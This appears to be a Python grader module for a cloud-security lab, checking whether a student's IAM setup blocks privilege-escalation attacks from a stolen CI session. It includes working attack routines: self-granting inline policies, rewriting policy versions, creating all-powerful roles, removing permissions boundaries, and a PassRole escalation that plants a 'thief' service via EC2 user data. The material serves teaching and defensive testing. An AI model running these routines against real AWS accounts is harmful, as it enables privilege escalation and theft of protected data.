"""What must fail and what must work in lab 5."""

from __future__ import annotations

import json
import re
import secrets
import time
from contextlib import suppress
from functools import partial
from typing import Any

from botocore.exceptions import ClientError

from scripts.aws.credentials import Credentials
from scripts.aws.web_identity import AssumeRoleDenied
from scripts.console import UserError
from scripts.labs import common
from scripts.labs.attacking import everything, until_it_works
from scripts.labs.running import LabRun
from scripts.labs.trial import Refused, Trial, first_that_works, refusal_of

REPOSITORY = "acme/pipeline"
BOARD = "board/secret.txt"
TRAIN = "train/data.csv"
_ROLE = re.compile(r"arn:aws:iam::[^:]*:role/([\w+=,.@*-]+)")
IMAGE = "ami-12c6146b"
"""One that the local cloud knows."""
LAUNCH_SECONDS = 60
UNIT = "[Service]\nExecStart=/opt/keyless/venv/bin/python /opt/lab/thief.py\n"
THIEF = """import boto3
s3 = boto3.client("s3")
body = s3.get_object(Bucket="{bucket}", Key="{key}")["Body"].read()
s3.put_object(Bucket="{bucket}", Key="{loot}", Body=body)
"""


def prepare(run: LabRun) -> None:
    """Put the flag where training has no right, data where it has, and a session into the profile.

    What earlier attacks left is removed, so that what is tried is the student's.
    """
    _remove_what_attacks_left(run)
    common.put_flag(run, BOARD, "{flag}\n")
    common.put(run, TRAIN, b"x,y\n1,2\n")
    # Where the student's trust policy lets no job in, the session of before is still stolen.
    with suppress(AssumeRoleDenied):
        run.give_profile("train", _session(run))


def leak(run: LabRun) -> None:
    """The stolen session is in the profile already."""


def _remove_what_attacks_left(run: LabRun) -> None:
    """Inline policies, versions, roles and instances that no Terraform of the student made."""
    _end_instances(run)
    iam, name = run.administrator("iam"), common.role(run)
    for policy in iam.list_policies(Scope="Local")["Policies"]:
        for version in iam.list_policy_versions(PolicyArn=policy["Arn"])["Versions"]:
            if not version["IsDefaultVersion"]:  # IAM keeps five; Terraform's own is the default
                iam.delete_policy_version(PolicyArn=policy["Arn"], VersionId=version["VersionId"])
    kept = run.managed("aws_iam_role_policy", "name")
    _remove_policies(iam, name, kept)
    for role in iam.list_roles()["Roles"]:
        made = role["RoleName"] not in run.managed("aws_iam_role", "name")
        if made and not role["Path"].startswith("/aws-service-role/"):
            with suppress(ClientError):  # one that the student made, with more than policies
                _remove_policies(iam, role["RoleName"], kept)
                iam.delete_role(RoleName=role["RoleName"])


def _end_instances(run: LabRun) -> None:
    ec2, kept = run.administrator("ec2"), run.managed("aws_instance", "id")
    found = {
        one["InstanceId"]
        for reservation in ec2.describe_instances()["Reservations"]
        for one in reservation["Instances"]
    }
    if found - kept:
        ec2.terminate_instances(InstanceIds=sorted(found - kept))


def _remove_policies(iam: Any, role: str, kept: set[str]) -> None:
    for policy in iam.list_role_policies(RoleName=role)["PolicyNames"]:
        if policy not in kept:
            iam.delete_role_policy(RoleName=role, PolicyName=policy)


def _session(run: LabRun) -> Credentials:
    return run.job_session(common.role(run), REPOSITORY)


def _inline(run: LabRun) -> str:
    session = _session(run)
    run.client(session, "iam").put_role_policy(
        RoleName=common.role(run), PolicyName="more", PolicyDocument=everything()
    )
    return common.read(run, session, BOARD)


def _versions(run: LabRun) -> str:
    """Rewrite whatever holds for the role: each policy attached to it, and its boundary."""
    session, iam, name = _session(run), run.administrator("iam"), common.role(run)
    policies = [one["PolicyArn"] for one in _attached(iam, name)]
    if boundary := iam.get_role(RoleName=name)["Role"].get("PermissionsBoundary"):
        policies.append(boundary["PermissionsBoundaryArn"])
    written, refused = 0, []
    for policy in policies:
        try:
            run.client(session, "iam").create_policy_version(
                PolicyArn=policy, PolicyDocument=everything(), SetAsDefault=True
            )
            written += 1
        except Exception as failure:
            if refusal_of(failure) is None:
                raise
            refused.append(failure)
    if not written:
        raise refused[0] if refused else Refused("the role has no policy that has versions")
    return until_it_works(lambda: common.read(run, session, BOARD))


def _attached(iam: Any, role: str) -> list[Any]:
    return list(iam.list_attached_role_policies(RoleName=role)["AttachedPolicies"])


def _experiment(run: LabRun) -> str:
    """A role with every right; with each boundary of the account, where one is asked for."""
    patterns = _role_patterns(run)
    policies = run.administrator("iam").list_policies(Scope="Local")["Policies"]
    ways: list[dict[str, str]] = [{}]
    ways += [{"PermissionsBoundary": policy["Arn"]} for policy in policies]
    return first_that_works(
        partial(_made_role, run, pattern.replace("*", secrets.token_hex(3)), way)
        for way in ways
        for pattern in patterns
    )


def _role_patterns(run: LabRun) -> list[str]:
    """Names of roles that the role's own policies speak of; renaming them stops no attacker."""
    iam, name = run.administrator("iam"), common.role(run)
    found = ["lab-experiment-*"]
    for policy in iam.list_role_policies(RoleName=name)["PolicyNames"]:
        document = iam.get_role_policy(RoleName=name, PolicyName=policy)["PolicyDocument"]
        found += _ROLE.findall(json.dumps(document))
    for attached in _attached(iam, name):
        arn = attached["PolicyArn"]
        version = iam.get_policy(PolicyArn=arn)["Policy"]["DefaultVersionId"]
        document = iam.get_policy_version(PolicyArn=arn, VersionId=version)["PolicyVersion"]
        found += _ROLE.findall(json.dumps(document["Document"]))
    return list(dict.fromkeys(found))


def _made_role(run: LabRun, name: str, way: dict[str, str]) -> str:
    session = _session(run)
    me = f"arn:aws:iam::{run.account_id}:root"
    statement = {"Effect": "Allow", "Principal": {"AWS": me}, "Action": "sts:AssumeRole"}
    trust = json.dumps({"Version": "2012-10-17", "Statement": [statement]})
    iam = run.client(session, "iam")
    iam.create_role(RoleName=name, AssumeRolePolicyDocument=trust, **way)
    iam.put_role_policy(RoleName=name, PolicyName="all", PolicyDocument=everything())
    sts = run.client(session, "sts")
    made = sts.assume_role(RoleArn=run.role_arn(name), RoleSessionName="lab")["Credentials"]
    stolen = Credentials(made["AccessKeyId"], made["SecretAccessKey"], made["SessionToken"])
    return common.read(run, stolen, BOARD)


def _passed(run: LabRun) -> str:
    """Start an instance with a role of somebody else's, and a program that uses it."""
    found = run.administrator("iam").list_instance_profiles()["InstanceProfiles"]
    profiles = [one["InstanceProfileName"] for one in found]
    return first_that_works(partial(_launched, run, profile) for profile in profiles)


def _launched(run: LabRun, profile: str) -> str:
    session, loot = _session(run), f"train/{secrets.token_hex(6)}"
    program = THIEF.format(bucket=common.output(run, "bucket"), key=BOARD, loot=loot)
    files = [
        {"path": "/opt/lab/thief.py", "content": program},
        {"path": "/etc/systemd/system/thief.service", "content": UNIT},
    ]
    config = {"write_files": files, "runcmd": ["systemctl enable --now thief.service"]}
    run.client(session, "ec2").run_instances(
        ImageId=IMAGE, InstanceType="t4g.micro", MinCount=1, MaxCount=1,
        IamInstanceProfile={"Name": profile}, UserData=f"#cloud-config\n{json.dumps(config)}",
    )  # fmt: skip
    deadline = time.monotonic() + LAUNCH_SECONDS
    while time.monotonic() < deadline:
        with suppress(ClientError):
            return common.read(run, session, loot)
        time.sleep(0.3)
    raise UserError(f"the instance with {profile} runs, and has brought nothing yet")


def _no_boundary(run: LabRun) -> str:
    session = _session(run)
    run.client(session, "iam").delete_role_permissions_boundary(RoleName=common.role(run))
    return common.read(run, session, BOARD)


def _directly(run: LabRun) -> str:
    return common.read(run, _session(run), BOARD)


def _training(run: LabRun) -> str:
    session = _session(run)
    common.write(run, session, "train/model.txt")
    ssm = run.client(session, "ssm")
    ssm.put_parameter(Name="/lab/tuning", Value="depth=4", Overwrite=True)
    return str(ssm.get_parameter(Name="/lab/tuning")["Parameter"]["Value"])


ATTACKS = [
    Trial("an inline policy of its own role", _inline),
    Trial("a role for an experiment, with every right", _experiment),
    Trial("an instance with another role, by PassRole", _passed),
    Trial("a version of every policy and boundary that holds for it", _versions),
    Trial("its permissions boundary taken off", _no_boundary),
    Trial("the board's file without any trick", _directly),
    common.trusts(REPOSITORY, {"lab-train": {}}),
]
NEEDS = [Trial("a training job reads and writes train/ and its tuning parameter", _training)]
